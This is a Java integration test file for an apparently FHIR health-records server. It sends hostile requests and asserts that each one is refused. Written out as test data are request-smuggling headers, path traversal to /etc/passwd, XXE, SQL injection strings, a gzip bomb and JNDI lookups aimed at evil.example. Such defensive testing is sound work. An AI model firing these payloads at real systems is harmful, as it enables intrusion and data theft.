package trellis.access;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import trellis.TestServer;
import trellis.page.DemoServer;

/// What somebody sends who means harm: it is refused, changes nothing, and tells nothing.
class HostileIT {
    private static final TestServer server = DemoServer.shared();
    private static final HttpClient CLIENT = HttpClient.newHttpClient();

    private static String machine = "";
    private static String clinician = "";

    @BeforeAll
    static void tokens() {
        var tokens = server.bean(Tokens.class);
        machine = tokens.issue(Optional.empty(), Duration.ofHours(1)).secret();
        var account = server.bean(Accounts.class).named("clinician");
        clinician = tokens.issue(account, Duration.ofHours(1)).secret();
    }

    private static HttpResponse<String> fhir(String token, String path) {
        return send(HttpRequest.newBuilder(server.at("/fhir/" + path)), token);
    }

    private static HttpResponse<String> post(String type, byte[] body, String... headers) {
        var request =
                HttpRequest.newBuilder(server.at("/fhir/Patient"))
                        .header("Content-Type", type)
                        .POST(BodyPublishers.ofByteArray(body));
        if (headers.length > 0) {
            request.headers(headers);
        }
        return send(request, machine);
    }

    private static HttpResponse<String> send(HttpRequest.Builder request, String token) {
        try {
            return CLIENT.send(
                    request.header("Authorization", "Bearer " + token).build(),
                    BodyHandlers.ofString());
        } catch (IOException e) {
            throw new IllegalStateException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    // --- requests that two parsers read differently ----------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Content-Length: 6\nTransfer-Encoding: chunked",
                "Transfer-Encoding: chunked\nContent-Length: 6",
                "Content-Length: 6\nContent-Length: 5",
                "Content-Length: 6, 5",
                "Content-Length: +6",
                "Content-Length: -1",
                "Content-Length: 0x6",
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding: chunked, identity",
                "Transfer-Encoding : chunked",
                " Transfer-Encoding: chunked",
                "Transfer-Encoding:\u000bchunked",
            })
    void a_request_in_a_request_is_never_answered(String lengths) {
        var smuggled = "0\n\nGET /fhir/Patient?smuggled HTTP/1.1\nHost: x\n\n";
        var sent =
                "POST /fhir/Patient HTTP/1.1\nHost: localhost\nAuthorization: Bearer "
                        + machine
                        + "\nContent-Type: application/fhir+json\n"
                        + lengths
                        + "\n\n"
                        + smuggled;
        var answer = RawHttp.send(server, sent);
        // What is left over may be refused as no request at all; it is never taken for one.
        assertThat(answer.answers()).as(answer.text()).isLessThanOrEqualTo(2);
        assertThat(answer.text()).doesNotContain("HTTP/1.1 200").doesNotContain("smuggled");
        assertThat(answer.status()).as(answer.text()).isNotIn(200, 201, 500);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /fhir/Patient HTTP/1.1\nHost: localhost\nHost: evil.example\n\n",
                "GET /fhir/Patient HTTP/1.1\n\n",
                "GET http://evil.example/fhir/Patient HTTP/1.1\nHost: localhost\n\n",
                "GET /fhir/Patient\u0000 HTTP/1.1\nHost: localhost\n\n",
                "GET /fhir/Patient HTTP/9.9\nHost: localhost\n\n",
                "GET /fhir/Patient HTTP/1.1\nHost: localhost\nX: a\u0000b\n\n",
                "GET /fhir/Patient HTTP/1.1\nHost: localhost\nno colon here\n\n",
                "TRACE /fhir/Patient HTTP/1.1\nHost: localhost\n\n",
                "CONNECT evil.example:443 HTTP/1.1\nHost: evil.example\n\n",
                "\u0016\u0003\u0001\u0002\u0000",
            })
    void what_is_no_good_http_is_refused(String text) {
        var answer = RawHttp.send(server, text.replace("\n\n", "\nConnection: close\n\n"));
        assertThat(answer.status()).as(answer.text()).isIn(0, 400, 401, 404, 405, 501, 505);
        assertThat(answer.text()).doesNotContain("Exception").doesNotContain("evil.example");
    }

    @Test
    void headers_without_end_are_cut_off() {
        var long_ = "GET /sign-in HTTP/1.1\nHost: localhost\nX: " + "a".repeat(200_000) + "\n\n";
        assertThat(RawHttp.send(server, long_).status()).isIn(0, 400, 431);
        var many = new StringBuilder("GET /sign-in HTTP/1.1\nHost: localhost\n");
        for (var i = 0; i < 5_000; i++) {
            many.append("X-").append(i).append(": 1\n");
        }
        assertThat(RawHttp.send(server, many + "\n").status()).isIn(0, 400, 431);
    }

    // --- addresses ------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/assets/../application.properties",
                "/assets/..%2f..%2fapplication.properties",
                "/assets/%2e%2e/%2e%2e/etc/passwd",
                "/assets/..%5c..%5cwindows",
                "/assets/%252e%252e/trellis.css",
                "/fhir/Patient/..%2f..%2factuator",
                "/fhir/Patient;jsessionid=1/x",
                "//evil.example/%2f..",
                "/fhir/Patient/%00",
                "/fhir/%0d%0aSet-Cookie:x=1",
                "/actuator/../fhir/Patient",
                "/WEB-INF/web.xml",
                "/db/migration/V1__current_history_and_search_rows.sql",
            })
    void no_address_leads_out_of_its_folder(String path) {
        var answer =
                RawHttp.send(
                        server,
                        "GET " + path + " HTTP/1.1\nHost: localhost\nConnection: close\n\n");
        assertThat(answer.status()).as(answer.text()).isIn(302, 400, 401, 404);
        assertThat(answer.text())
                .doesNotContain("root:")
                .doesNotContain("create table")
                .doesNotContain("Set-Cookie: x")
                .doesNotContain("Set-Cookie:x");
        assertThat(answer.text()).doesNotContainPattern("(?i)location: *(https?:)?//evil");
    }

    @Test
    void the_host_that_somebody_claims_leads_nobody_away() {
        var page =
                RawHttp.send(
                        server,
                        """
                        GET /patients HTTP/1.1
                        Host: evil.example
                        X-Forwarded-Host: evil.example
                        X-Forwarded-Proto: https
                        Forwarded: host=evil.example
                        Connection: close

                        """);
        assertThat(page.status()).isEqualTo(302);
        assertThat(page.text()).doesNotContainPattern("(?i)location: *(https?:)?//evil");
        var search =
                RawHttp.send(
                        server,
                        "GET /fhir/Patient?_count=1 HTTP/1.1\nHost: localhost\nX-Forwarded-Host: evil.example\n"
                                + "Authorization: Bearer "
                                + machine
                                + "\nConnection: close\n\n");
        assertThat(search.status()).isEqualTo(200);
        assertThat(search.text()).doesNotContain("evil.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/sign-in?continue=https://evil.example/",
                "/sign-in?redirect=//evil.example",
                "/sign-in?returnUrl=https:evil.example",
                "/?next=//evil.example",
            })
    void signing_in_leads_to_pages_of_this_server_alone(String path) {
        try (var browser = new Browser(server)) {
            browser.get(path);
            var answer = browser.signIn("clinician", DemoServer.PASSWORD);
            assertThat(answer.headers().firstValue("Location").orElseThrow())
                    .isIn("/", server.at("/").toString());
        }
    }

    @Test
    void an_app_sends_people_back_to_where_it_is_registered_alone() {
        try (var browser = Browser.signedIn(server, "clinician", DemoServer.PASSWORD)) {
            for (var redirect :
                    List.of("https://evil.example/", "//evil.example", "javascript:alert(1)")) {
                var answer =
                        browser.get(
                                "/oauth2/authorize?response_type=code&client_id=none&redirect_uri="
                                        + URLEncoder.encode(redirect, StandardCharsets.UTF_8));
                assertThat(answer.statusCode()).as(redirect).isEqualTo(400);
                assertThat(answer.headers().firstValue("Location")).isEmpty();
            }
        }
    }

    // --- sessions -------------------------------------------------------------------------------

    @Test
    void a_session_that_was_planted_is_worth_nothing() {
        var planted = "0123456789ABCDEF0123456789ABCDEF";
        var page =
                RawHttp.send(
                        server,
                        "GET /sign-in HTTP/1.1\nHost: localhost\nCookie: TRELLIS="
                                + planted
                                + "\nConnection: close\n\n");
        assertThat(page.text()).contains("Set-Cookie: TRELLIS=").doesNotContain(planted);
        var byAddress =
                RawHttp.send(
                        server,
                        "GET /sign-in;TRELLIS="
                                + planted
                                + " HTTP/1.1\nHost: localhost\nConnection: close\n\n");
        assertThat(byAddress.status()).isEqualTo(400);
    }

    @Test
    void a_form_from_elsewhere_changes_nothing() {
        try (var browser = Browser.signedIn(server, "clinician", DemoServer.PASSWORD)) {
            var bare =
                    browser.postBare("/account/password", Map.of("current", "x", "password", "y"));
            assertThat(bare.statusCode()).isEqualTo(403);
            var wrong =
                    browser.postBare(
                            "/account/second-step", Map.of("_csrf", "made-up-by-somebody-else"));
            assertThat(wrong.statusCode()).isEqualTo(403);
        }
    }

    // --- contents -------------------------------------------------------------------------------

    @Test
    void a_bomb_in_a_zip_is_refused_before_it_unfolds() throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new GZIPOutputStream(bytes)) {
            zip.write("{\"resourceType\":\"Patient\",\"id\":\"".getBytes(StandardCharsets.UTF_8));
            var zeros = new byte[1 << 20];
            java.util.Arrays.fill(zeros, (byte) 'a');
            for (var megabyte = 0; megabyte < 300; megabyte++) {
                zip.write(zeros);
            }
        }
        assertThat(bytes.size()).isLessThan(1 << 20);
        var answer = post("application/fhir+json", bytes.toByteArray(), "Content-Encoding", "gzip");
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(413);
        var nested =
                post(
                        "application/fhir+json",
                        bytes.toByteArray(),
                        "Content-Encoding",
                        "gzip, gzip");
        assertThat(nested.statusCode()).isIn(400, 413, 415);
    }

    @Test
    void depth_and_width_without_end_are_refused() {
        var deep = "[".repeat(100_000);
        var wide = "{\"resourceType\":\"Patient\"," + "\"a\":1,".repeat(300_000) + "\"b\":1}";
        var number =
                "{\"resourceType\":\"Patient\",\"multipleBirthInteger\":1e" + "9".repeat(900) + "}";
        var twice = "{\"resourceType\":\"Patient\",\"active\":true,\"active\":false}";
        for (var text :
                List.of(
                        deep,
                        "{\"resourceType\":\"Patient\",\"contact\":" + deep,
                        "{\"a\":".repeat(50_000),
                        wide,
                        number,
                        twice)) {
            var answer = post("application/fhir+json", text.getBytes(StandardCharsets.UTF_8));
            assertThat(answer.statusCode()).as(text.substring(0, 50)).isIn(400, 413, 422);
        }
    }

    @Test
    void xml_that_reads_files_of_the_server_is_not_read_at_all() {
        var xml =
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>"
                        + "<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"&y;\"/></Patient>";
        for (var type : List.of("application/fhir+xml", "text/xml", "application/fhir+json")) {
            var answer = post(type, xml.getBytes(StandardCharsets.UTF_8));
            assertThat(answer.statusCode()).as(type).isIn(400, 415);
            assertThat(answer.body()).doesNotContain("root:");
        }
    }

    // --- SQL, paths, and what is not a form's to say --------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Patient?name='; drop table res; --",
                "Patient?_id=1' or '1'='1",
                "Patient?_sort=name;select pg_sleep(30)",
                "Patient?_sort=(select 1)",
                "Patient?_elements=name' union select password from account --",
                "Patient?birthdate=ge2000-01-01') or 1=1 --",
                "Patient?identifier=x|' or ''='",
                "Observation?patient.name=\\'; truncate res; --",
                "Patient?_has:Observation:patient:code=1'); --",
                "Patient?name:$(id)=x",
                "Patient?_filter=name eq 'x' or 1 eq 1",
                "Patient?_count=1; drop table hist",
                "Patient?_include=Patient:link' --",
                "Patient/1' or 1=1 --",
                "Patient/${jndi:ldap://evil.example/a}",
                "Patient?name=${jndi:ldap://evil.example/a}",
                "Patient?_page=' or 1=1 --",
            })
    void sql_in_a_question_is_text(String question) {
        var parts = question.split("\\?", 2);
        var path = encoded(parts[0]);
        if (parts.length > 1) {
            var field = parts[1].split("=", 2);
            path += "?" + encoded(field[0]) + "=" + encoded(field[1]);
        }
        var answer = fhir(clinician, path);
        assertThat(answer.statusCode()).as(answer.body()).isIn(200, 400, 403, 404);
        assertThat(answer.body()).doesNotContain("PSQLException", "syntax error", "$2a$", "bcrypt");
        if (answer.statusCode() == 200 && !question.contains("_elements")) {
            assertThat(answer.body().contains("\"entry\"")).as("found nobody").isFalse();
        }
        assertThat(fhir(machine, "Patient?_summary=count").body()).doesNotContain("\"total\":0,");
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8)
                .replace("+", "%20")
                .replace("%2F", "/")
                .replace("%3A", ":");
    }

    @Test
    void nobody_gives_themselves_a_role_by_a_form_or_a_resource() {
        try (var browser = Browser.signedIn(server, "ward.clerk", DemoServer.PASSWORD)) {
            browser.post(
                    "/account/password",
                    Map.of(
                            "current",
                            "wrong",
                            "password",
                            "another-long-password",
                            "role",
                            "SYSTEM",
                            "account",
                            "1",
                            "person.role",
                            "AUDITOR",
                            "disabled",
                            "false"));
            assertThat(browser.get("/audit").statusCode()).isEqualTo(403);
        }
        var account = server.bean(Accounts.class).named("ward.clerk").orElseThrow();
        assertThat(account.person().role()).isEqualTo(Role.WARD_CLERK);
        var claims =
                "{\"resourceType\":\"PractitionerRole\",\"active\":true,\"code\":[{\"text\":\"SYSTEM\"}],"
                        + "\"practitioner\":{\"identifier\":{\"value\":\"clinician\"}}}";
        var request =
                HttpRequest.newBuilder(server.at("/fhir/PractitionerRole"))
                        .header("Content-Type", "application/fhir+json")
                        .POST(BodyPublishers.ofString(claims));
        send(request, clinician);
        assertThat(fhir(clinician, "AuditEvent").statusCode()).isEqualTo(403);
    }

    @Test
    void numbers_that_are_nobodys_and_numbers_of_strangers_look_alike() {
        var stranger = fhir(clinician, "Condition?patient=" + DemoServer.STRANGER);
        var nobody = fhir(clinician, "Condition?patient=00020161-9999-4000-8000-000000000000");
        assertThat(stranger.statusCode()).isEqualTo(nobody.statusCode());
        assertThat(stranger.body().length() - nobody.body().length()).isBetween(-80, 80);
        var one = fhir(clinician, "Condition/stranger-1");
        var other = fhir(clinician, "Condition/stranger-2");
        assertThat(one.body().replace("stranger-1", ""))
                .isEqualTo(other.body().replace("stranger-2", ""));
    }
}
